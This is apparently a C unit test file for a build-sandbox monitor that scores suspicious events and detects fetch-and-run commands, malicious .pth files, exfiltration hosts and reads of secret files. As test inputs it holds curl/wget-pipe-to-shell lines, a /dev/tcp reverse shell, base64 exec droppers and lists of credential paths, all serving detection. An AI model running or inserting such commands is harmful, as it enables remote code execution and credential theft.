// SPDX-License-Identifier: MIT
/*
 * The scorer and the judges of single actions, fed with recorded event
 * streams: features (guard/kstats.c), findings (guard/signals.c), points,
 * caps, evidence links and verdicts (guard/score.c), with the embedded
 * default policy and layers on top of it.
 */
#include "tests/cmocka_all.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "bpf/sp_event.h"
#include "guard/kstats.h"
#include "guard/score.h"
#include "guard/signals.h"
#include "policy/policy.h"

static const struct sp_policy_env env = { .homes = { "/home/u" } };

static struct sp_policy *policy(const char *layer)
{
	struct sp_policy *p = sp_policy_new(&env);
	struct sp_errors err;

	assert_non_null(p);
	memset(&err, 0, sizeof(err));
	assert_int_equal(sp_policy_add_default(p, &err), 0);
	if (layer)
		assert_int_equal(sp_policy_add_yaml(p, "t.yaml", layer, strlen(layer), &err), 0);
	return p;
}

/* ------------------------------------------------------------- scorer */

static void test_weights_and_caps(void **state)
{
	struct sp_policy *p = policy(NULL);
	struct scorer sc;
	bool crossed;

	(void)state;
	scorer_init(&sc, p);
	assert_int_equal(sc.threshold, 100);
	/* exec-temp: weight 50, cap 100 */
	assert_int_equal(scorer_add(&sc, 0, "exec-temp", 0, SP_ROLE_BUILD, &crossed), 50);
	assert_false(crossed);
	assert_int_equal(scorer_add(&sc, 1, "exec-temp", 0, SP_ROLE_BUILD, &crossed), 50);
	assert_true(crossed);
	/* past the cap: the finding is kept, it earns nothing, no second crossing */
	assert_int_equal(scorer_add(&sc, 2, "exec-temp", 0, SP_ROLE_BUILD, &crossed), 0);
	assert_false(crossed);
	assert_int_equal(scorer_dist_total(&sc, 0), 100);
	assert_int_equal(scorer_dist(&sc, 0)->hits[SCORE_EXEC_TEMP], 3);
	assert_int_equal(scorer_dist(&sc, 0)->points[SCORE_EXEC_TEMP], 100);
	/* chmod-exec-new: weight 40, cap 80: the last hit gets what is left */
	assert_int_equal(scorer_add(&sc, 3, "chmod-exec-new", 1, SP_ROLE_BUILD, &crossed), 40);
	assert_int_equal(scorer_add(&sc, 4, "chmod-exec-new", 1, SP_ROLE_BUILD, &crossed), 40);
	assert_int_equal(scorer_add(&sc, 5, "chmod-exec-new", 1, SP_ROLE_BUILD, &crossed), 0);
	assert_int_equal(scorer_dist_total(&sc, 1), 80);
	assert_int_equal(sc.session.total, 180);
	assert_int_equal(sc.roles[SP_ROLE_BUILD].total, 180);
	/* the same finding is never counted twice */
	assert_int_equal(scorer_add(&sc, 0, "exec-temp", 0, SP_ROLE_BUILD, &crossed), 50);
	assert_int_equal(scorer_dist_total(&sc, 0), 100);
	scorer_free(&sc);
	sp_policy_free(p);
}

static void test_policy_settings(void **state)
{
	struct sp_policy *p = policy("version: 1\nthreshold: 60\nrules:\n"
				     "  spawn-fetch: { enabled: false }\n"
				     "  static-exec: { weight: 35, cap: 50 }\n");
	struct scorer sc;
	bool crossed;

	(void)state;
	scorer_init(&sc, p);
	assert_int_equal(sc.threshold, 60);
	assert_int_equal(scorer_add(&sc, 0, "spawn-fetch", 0, SP_ROLE_BUILD, &crossed), 0);
	assert_int_equal(scorer_add(&sc, 1, "static-exec", 0, SP_ROLE_BUILD, &crossed), 35);
	assert_false(crossed);
	assert_int_equal(scorer_add(&sc, 2, "static-exec", 0, SP_ROLE_BUILD, &crossed), 15);
	assert_int_equal(scorer_dist_total(&sc, 0), 50);
	assert_false(crossed);
	/* the policy's deny ids are no scorer rules: no points, rule -1 */
	assert_int_equal(scorer_add(&sc, 3, "denied-read", 0, SP_ROLE_BUILD, &crossed), 0);
	assert_int_equal(scorer_mark(&sc, 3).rule, -1);
	/* findings of no distribution have a bucket of their own */
	assert_int_equal(scorer_add(&sc, 4, "lost-records", SCORE_NONE_DIST, SP_ROLE_NONE, &crossed), 10);
	assert_int_equal(scorer_dist_total(&sc, SCORE_NONE_DIST), 10);
	assert_int_equal(scorer_dist_total(&sc, 0), 50);
	scorer_free(&sc);
	sp_policy_free(p);
}

static void test_top_reasons(void **state)
{
	struct sp_policy *p = policy(NULL);
	struct scorer sc;
	size_t top[3], n;
	bool crossed;

	(void)state;
	scorer_init(&sc, p);
	scorer_add(&sc, 0, "static-exec", 2, SP_ROLE_BUILD, &crossed);     /* 20 */
	scorer_add(&sc, 1, "daemonize", 2, SP_ROLE_BUILD, &crossed);       /* 30 */
	scorer_add(&sc, 2, "listen", 5, SP_ROLE_BUILD, &crossed);          /* other dist */
	scorer_add(&sc, 3, "chmod-exec-new", 2, SP_ROLE_BUILD, &crossed);  /* 40 */
	scorer_add(&sc, 4, "static-exec", 2, SP_ROLE_BUILD, &crossed);     /* 20, tie: later */
	n = scorer_top(&sc, 2, top, 3);
	assert_int_equal(n, 3);
	assert_int_equal(top[0], 3);
	assert_int_equal(top[1], 1);
	assert_int_equal(top[2], 0);
	assert_int_equal(scorer_mark(&sc, 3).points, 40);
	assert_int_equal(scorer_mark(&sc, 3).dist, 2);
	/* 20 + 30 + 40 + 20 against listen's 100 */
	assert_int_equal(scorer_worst(&sc), 2);
	scorer_free(&sc);
	sp_policy_free(p);
}

static void test_verdicts(void **state)
{
	(void)state;
	assert_int_equal(score_decide(false, false, true, false), SCORE_GO_ON);
	assert_int_equal(score_decide(true, false, true, false), SCORE_STOP);
	assert_int_equal(score_decide(true, false, false, false), SCORE_MONITOR);
	assert_int_equal(score_decide(true, false, true, true), SCORE_ALLOWED);
	assert_int_equal(score_decide(true, false, false, true), SCORE_ALLOWED);
	/* a deny stops under its own name, whatever the score */
	assert_int_equal(score_decide(true, true, true, false), SCORE_GO_ON);
}

/* ----------------------------------------------------- recorded streams */

/*
 * A recorded stream replayed the way the session does it: exit records
 * feed the feature counters, exec and open records the judges, findings
 * the scorer.  Each finding remembers the record that earned it.
 */
struct replay {
	struct kstats *ks;
	struct scorer sc;
	const char *rule[32];
	size_t event[32];               /* evidence: index of the record */
	size_t n;
	long crossed_at;                /* record index of the first crossing, -1 */
};

static void finding(struct replay *r, size_t ev, const char *rule, int dist)
{
	bool crossed;

	assert_true(r->n < 32);
	r->rule[r->n] = rule;
	r->event[r->n] = ev;
	assert_true(scorer_add(&r->sc, r->n, rule, dist, SP_ROLE_BUILD, &crossed) >= 0);
	if (crossed && r->crossed_at < 0)
		r->crossed_at = (long)ev;
	r->n++;
}

static void replay(struct replay *r, const struct sp_event *evs, size_t n, int dist)
{
	char why[SIG_WHY_MAX];

	for (size_t i = 0; i < n; i++) {
		const struct sp_event *e = &evs[i];

		switch (e->h.kind) {
		case SP_EV_EXEC:
			assert_int_equal(kstats_exec(r->ks, dist), 0);
			if (e->exec.old_role == SP_ROLE_BUILD &&
			    sig_spawn_fetch(e->exec.filename, e->exec.argv, e->exec.argv_len, why, sizeof(why)))
				finding(r, i, "spawn-fetch", dist);
			break;
		case SP_EV_OPEN:
			if (!(e->open.oflags & SP_OF_WRITE) && sig_secret_kind(e->open.path))
				finding(r, i, "read-secret", dist);
			break;
		case SP_EV_EXIT:
			assert_int_equal(kstats_proc_exit(r->ks, dist, &e->exit.st), 0);
			break;
		default:
			break;
		}
	}
}

static void exec_rec(struct sp_event *e, uint32_t tgid, const char *file, const char *const *argv)
{
	size_t o = 0;

	memset(e, 0, sizeof(*e));
	e->h.kind = SP_EV_EXEC;
	e->h.tgid = tgid;
	e->h.role = SP_ROLE_BUILD;
	e->exec.old_role = SP_ROLE_BUILD;
	snprintf(e->exec.filename, sizeof(e->exec.filename), "%s", file);
	for (size_t i = 0; argv[i]; i++) {
		size_t l = strlen(argv[i]) + 1;

		memcpy(e->exec.argv + o, argv[i], l);
		o += l;
	}
	e->exec.argv_len = (uint32_t)o;
}

static void exit_rec(struct sp_event *e, uint32_t tgid, uint64_t cpu_ns, uint64_t opens_tmp)
{
	memset(e, 0, sizeof(*e));
	e->h.kind = SP_EV_EXIT;
	e->h.tgid = tgid;
	e->exit.st.cpu_ns = cpu_ns;
	e->exit.st.opens[SP_BK_TMP] = opens_tmp;
	e->exit.st.opens_read = opens_tmp;
	e->exit.st.sys[SP_CAT_NET] = 3;
	e->exit.st.ngram[SP_NG_FORK_EXEC_WAIT] = 1;
}

static void test_stream_dropper(void **state)
{
	static const char *const curl_sh[] = { "sh", "-c", "curl -s http://127.0.0.1:9/p | sh", NULL };
	static const char *const cc[] = { "cc", "-c", "x.c", "-o", "x.o", NULL };
	struct sp_policy *p = policy(NULL);
	struct replay r = { .crossed_at = -1 };
	struct sp_event ev[5];
	struct ks_features f;
	size_t top[2];

	(void)state;
	r.ks = kstats_new();
	assert_non_null(r.ks);
	scorer_init(&r.sc, p);
	exec_rec(&ev[0], 101, "/usr/bin/cc", cc);
	exec_rec(&ev[1], 102, "/bin/sh", curl_sh);
	memset(&ev[2], 0, sizeof(ev[2]));
	ev[2].h.kind = SP_EV_OPEN;
	snprintf(ev[2].open.path, sizeof(ev[2].open.path), "/home/other/.ssh/id_ed25519");
	exit_rec(&ev[3], 101, 2000000, 4);
	exit_rec(&ev[4], 102, 1000000, 1);
	replay(&r, ev, 5, 0);

	/* findings, each linked to the record that earned it */
	assert_int_equal(r.n, 2);
	assert_string_equal(r.rule[0], "spawn-fetch");
	assert_int_equal(r.event[0], 1);
	assert_string_equal(r.rule[1], "read-secret");
	assert_int_equal(r.event[1], 2);
	/* the verdict: the first crossing is at the curl | sh exec */
	assert_int_equal(r.crossed_at, 1);
	assert_int_equal(scorer_dist_total(&r.sc, 0), 200);
	assert_int_equal(score_decide(true, false, true, false), SCORE_STOP);
	assert_int_equal(scorer_top(&r.sc, 0, top, 2), 2);
	assert_int_equal(r.event[top[0]], 1);
	/* features of the distribution */
	assert_int_equal(kstats_features(r.ks, 0, &f), 0);
	assert_int_equal(f.execs, 2);
	assert_int_equal(f.procs, 2);
	assert_int_equal(f.cpu_ns, 3000000);
	assert_int_equal(f.opens[SP_BK_TMP], 5);
	assert_int_equal(f.sys[SP_CAT_NET], 6);
	assert_int_equal(f.ngram[SP_NG_FORK_EXEC_WAIT], 2);
	kstats_free(r.ks);
	scorer_free(&r.sc);
	sp_policy_free(p);
}

static void test_stream_honest_build(void **state)
{
	static const char *const argvs[][8] = {
		{ "sh", "-c", "./configure --prefix=/usr && make -j2", NULL },
		{ "/bin/sh", "./configure", "--prefix=/tmp/x", NULL },
		{ "git", "describe", "--tags", "--dirty", NULL },
		{ "pkg-config", "--cflags", "--libs", "zlib", NULL },
		{ "python3", "-c", "import sysconfig; print(sysconfig.get_paths()['include'])", NULL },
		{ "cmake", "--build", ".", "--", "-j2", NULL },
		{ "ninja", "-C", "build", NULL },
		{ "sh", "-c", "cython -3 src/a.pyx -o src/a.c && gcc -shared -o a.so src/a.c", NULL },
	};
	static const char *const files[] = { "/bin/sh", "/bin/sh", "/usr/bin/git",
					     "/usr/bin/pkg-config", "/usr/bin/python3",
					     "/usr/bin/cmake", "/usr/bin/ninja", "/bin/sh" };
	struct sp_policy *p = policy(NULL);
	struct replay r = { .crossed_at = -1 };
	struct sp_event ev[8];

	(void)state;
	r.ks = kstats_new();
	assert_non_null(r.ks);
	scorer_init(&r.sc, p);
	for (size_t i = 0; i < 8; i++)
		exec_rec(&ev[i], (uint32_t)(200 + i), files[i], argvs[i]);
	replay(&r, ev, 8, 3);
	assert_int_equal(r.n, 0);
	assert_int_equal(scorer_dist_total(&r.sc, 3), 0);
	assert_int_equal(r.crossed_at, -1);
	kstats_free(r.ks);
	scorer_free(&r.sc);
	sp_policy_free(p);
}

/* ------------------------------------------------------------- judges */

static bool fetches(const char *file, const char *const *argv)
{
	char buf[1024], why[SIG_WHY_MAX];
	size_t o = 0;

	for (size_t i = 0; argv[i]; i++) {
		size_t l = strlen(argv[i]) + 1;

		memcpy(buf + o, argv[i], l);
		o += l;
	}
	return sig_spawn_fetch(file, buf, o, why, sizeof(why));
}

#define ARGV(...) ((const char *const[]){ __VA_ARGS__, NULL })

static void test_spawn_fetch(void **state)
{
	(void)state;
	assert_true(fetches("/bin/sh", ARGV("sh", "-c", "curl -fsSL http://x.example/i.sh | sh")));
	assert_true(fetches("/bin/bash", ARGV("bash", "-c", "wget -qO- https://h/p|bash")));
	assert_true(fetches("/bin/sh", ARGV("sh", "-c", "echo aGk= | base64 -d | sh")));
	assert_true(fetches("/bin/sh", ARGV("sh", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1")));
	assert_true(fetches("/usr/bin/python3.11",
			    ARGV("python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))")));
	assert_true(fetches("/usr/bin/perl", ARGV("perl", "-e", "use MIME::Base64; eval decode_base64($x)")));
	assert_true(fetches("/usr/bin/base64", ARGV("base64", "-d", "payload.b64")));
	assert_true(fetches("/usr/bin/curl", ARGV("curl", "-o", "/tmp/x", "http://127.0.0.1:9/x")));
	assert_true(fetches("/bin/sh", ARGV("sh", "-i")));
	/* what honest builds run */
	assert_false(fetches("/bin/sh", ARGV("sh", "-c", "gcc -v 2>&1 | grep version")));
	assert_false(fetches("/usr/bin/python3", ARGV("python3", "-c", "import sys; print(sys.version)")));
	assert_false(fetches("/usr/bin/base64", ARGV("base64", "file")));
	assert_false(fetches("/usr/bin/git", ARGV("git", "clone", "https://example.org/r.git")));
	assert_false(fetches("/bin/sh", ARGV("sh", "./configure", "--prefix=/usr")));
	assert_false(fetches("/bin/sh", ARGV("sh", "-c", "make install DESTDIR=/tmp/d")));
	/* no argv at all */
	assert_false(sig_spawn_fetch("/bin/sh", NULL, 0, NULL, 0));
}

static void test_pth(void **state)
{
	static const char setuptools[] = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = "
		"os.environ.get(var, 'local') == 'local'; enabled and "
		"__import__('_distutils_hack').add_shim(); \n";
	static const char editable[] = "import __editable___demo_1_0_finder; "
		"__editable___demo_1_0_finder.install()\n";
	static const char paths[] = "/opt/lib/extra\n../src\n";
	static const char dropper[] = "/usr/lib/x\nimport base64;exec(base64.b64decode('eA=='))\n";
	static const char spawner[] = "import subprocess; subprocess.Popen(['sh','-c','id'])\n";
	char why[SIG_WHY_MAX];

	(void)state;
	assert_true(sig_pth_has_code(setuptools, strlen(setuptools)));
	assert_false(sig_pth_exec(setuptools, strlen(setuptools), why, sizeof(why)));
	assert_false(sig_pth_exec(editable, strlen(editable), why, sizeof(why)));
	assert_false(sig_pth_has_code(paths, strlen(paths)));
	assert_true(sig_pth_exec(dropper, strlen(dropper), why, sizeof(why)));
	assert_non_null(strstr(why, "exec"));
	assert_true(sig_pth_exec(spawner, strlen(spawner), why, sizeof(why)));
	/* an import line without its newline at the end of the file counts too */
	assert_true(sig_pth_exec("import socket", 13, why, sizeof(why)));
	/* a line that only imports is judged by the module it imports */
	{
		char names[4][SIG_MODNAME_MAX];

		assert_int_equal(sig_pth_imports(setuptools, strlen(setuptools), names, 4), 2);
		assert_string_equal(names[0], "os");
		assert_string_equal(names[1], "_distutils_hack");
		assert_int_equal(sig_pth_imports("import a, b.c as d; x()\n", 25, names, 4), 2);
		assert_string_equal(names[1], "b");
		assert_int_equal(sig_pth_imports(paths, strlen(paths), names, 4), 0);
	}
	assert_true(sig_module_suspicious("import os\nimport socket\n", 24, why, sizeof(why)));
	assert_false(sig_module_suspicious("import importlib.abc\nimport sys\n", 32, why, sizeof(why)));
	assert_true(sig_pth_path("/v/lib/python3.11/site-packages/zz.pth"));
	assert_false(sig_pth_path("/v/lib/python3.11/site-packages/zz.pth.bak"));
	assert_false(sig_pth_path("/tmp/zz.pth"));
}

static void test_hosts(void **state)
{
	char why[SIG_WHY_MAX];

	(void)state;
	assert_string_equal(sig_suspicious_host("webhook.site"), "webhook.site");
	assert_string_equal(sig_suspicious_host("abc.Ngrok-Free.App."), "ngrok-free.app");
	assert_string_equal(sig_suspicious_host("rentry.co"), "rentry.co");
	assert_null(sig_suspicious_host("notwebhook.site"));
	assert_null(sig_suspicious_host("pypi.org"));
	assert_null(sig_suspicious_host("files.pythonhosted.org"));
	assert_true(sig_encoded_label("0.7370666b652d7373682d72736120.c1.exfil.test", why, sizeof(why)));
	assert_true(sig_encoded_label("mzxw6ytboi2dsnrtgm3tiobzhe4dsnrtgm3dqnrs.x.test", why, sizeof(why)));
	assert_false(sig_encoded_label("files.pythonhosted.org", why, sizeof(why)));
	assert_false(sig_encoded_label("internal-service-load-balancer.eu-west-1.elb.amazonaws.com",
				       why, sizeof(why)));
	assert_false(sig_encoded_label("deadbeef.example.org", why, sizeof(why)));
}

static void test_paths(void **state)
{
	(void)state;
	assert_string_equal(sig_secret_kind("/home/u/.ssh/id_rsa"), "SSH private key");
	assert_null(sig_secret_kind("/home/u/.ssh/id_rsa.pub"));
	assert_string_equal(sig_secret_kind("/root/.aws/credentials"), "cloud credentials");
	assert_string_equal(sig_secret_kind("/home/x/.config/discord/Local Storage/leveldb/000003.log"),
			    "Discord profile");
	assert_string_equal(sig_secret_kind("/etc/shadow"), "password hashes");
	assert_string_equal(sig_secret_kind("/srv/app/.env"), "environment file");
	assert_null(sig_secret_kind("/usr/lib/python3.11/os.py"));
	assert_null(sig_secret_kind("/etc/ssh/ssh_host_rsa_key.pub"));

	assert_true(sig_toolchain("/usr/bin/x86_64-linux-gnu-gcc-12"));
	assert_true(sig_toolchain("/usr/lib/gcc/x86_64-linux-gnu/12/collect2"));
	assert_true(sig_toolchain("/usr/bin/ld.bfd"));
	assert_true(sig_toolchain("cc1plus"));
	assert_false(sig_toolchain("/usr/bin/curl"));
	assert_false(sig_toolchain("/tmp/payload"));

	assert_true(sig_toolchain_home("/home/u/.cargo/bin/rustc"));
	assert_true(sig_toolchain_home("/root/.pyenv/versions/3.11.7/bin/python3.11-config"));
	assert_false(sig_toolchain_home("/home/u/.cache/x/payload"));
	assert_false(sig_toolchain_home("/home/u/.local/.hidden/payload"));
	assert_true(sig_system_path("/sbin/ldconfig"));
	assert_false(sig_system_path("/usr/../tmp/x"));
	assert_false(sig_system_path("/tmp/static-helper"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_weights_and_caps),
		cmocka_unit_test(test_policy_settings),
		cmocka_unit_test(test_top_reasons),
		cmocka_unit_test(test_verdicts),
		cmocka_unit_test(test_stream_dropper),
		cmocka_unit_test(test_stream_honest_build),
		cmocka_unit_test(test_spawn_fetch),
		cmocka_unit_test(test_pth),
		cmocka_unit_test(test_hosts),
		cmocka_unit_test(test_paths),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
